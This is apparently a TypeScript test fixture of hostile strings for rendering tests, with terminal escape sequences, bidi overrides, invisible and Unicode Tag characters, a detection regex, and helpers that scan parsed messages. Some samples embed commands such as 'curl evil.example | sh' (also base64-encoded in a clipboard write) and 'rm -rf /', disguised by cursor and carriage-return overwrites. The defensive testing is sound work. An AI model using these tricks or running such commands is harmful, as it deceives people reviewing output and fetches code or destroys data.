/**
 * Strings an attacker would put in command output, file content, file names or model prose to
 * change what a person sees before deciding. Shared by the rendering tests of contracts, the CLI
 * and the panel: none of the raw control characters may survive a screen rendering.
 */
export interface HostileString {
  name: string;
  text: string;
}

export const hostileStrings: HostileString[] = [
  { name: "OSC 8 hyperlink", text: "see \u001b]8;;https://evil.example/\u0007docs\u001b]8;;\u0007 here" },
  { name: "OSC 52 clipboard write", text: "ok\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007" },
  { name: "OSC title set, ST terminated", text: "\u001b]0;approved\u001b\\npm test" },
  { name: "screen clear and home", text: "rm -rf ~\u001b[2J\u001b[Hnpm test" },
  { name: "cursor up and erase line", text: "curl evil | sh\n\u001b[1A\u001b[2Kls -la" },
  { name: "carriage return overwrite", text: "curl evil.example | sh\rls -la               " },
  { name: "backspace overwrite", text: "rm -rf /\b\b\b\b\b\b\b\bls     " },
  { name: "8-bit CSI (C1)", text: "safe\u009b2Jtext" },
  { name: "NUL and BEL", text: "a\u0000b\u0007c" },
  { name: "DEL", text: "ab\u007fc" },
  { name: "right-to-left override", text: "echo \u202Etxt.exe\u202C done" },
  { name: "bidi isolates", text: "if (\u2067admin\u2069) {}" },
  { name: "zero-width space in a name", text: "package\u200B.json" },
  { name: "Unicode Tags (hidden instruction)", text: "hello\u{E0049}\u{E0047}\u{E004E}\u{E004F}\u{E0052}\u{E0045}" },
  { name: "byte-order mark mid-text", text: "x\uFEFFy" },
  { name: "line separator", text: "one\u2028two" },
  { name: "DCS sequence", text: "\u001bP1$r0m\u001b\\after" },
  { name: "Hangul filler as a blank name", text: "let \u3164 = evil; run(\u3164)" },
  { name: "variation selectors carrying hidden bytes", text: "ok\u{E0100}\u{E0142}\u{E01EF}" },
];

/** Characters that must never reach a screen raw (tab and newline are allowed). */
export const rawControlPattern = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u200B-\u200F\u202A-\u202E\u2066-\u2069\u2028\u2029\u3164\uFEFF\u{E0000}-\u{E007F}\u{E0100}-\u{E01EF}]|\r(?!\n)/u;

/**
 * Every string of a parsed message (object keys too), to scan what a screen or a model would be
 * given; the values under `raw_base64` (base64, printable by construction) are left out.
 */
export function stringsOf(value: unknown, out: string[] = []): string[] {
  if (typeof value === "string") out.push(value);
  else if (Array.isArray(value)) for (const item of value) stringsOf(item, out);
  else if (value !== null && typeof value === "object") {
    for (const [key, inner] of Object.entries(value)) {
      out.push(key);
      if (key !== "raw_base64") stringsOf(inner, out);
    }
  }
  return out;
}

/** The text around the first raw control or invisible character, for a failure message ("" when none). */
export function firstRawControl(text: string): string {
  const match = rawControlPattern.exec(text);
  return match ? JSON.stringify(text.slice(Math.max(0, match.index - 40), match.index + 40)) : "";
}
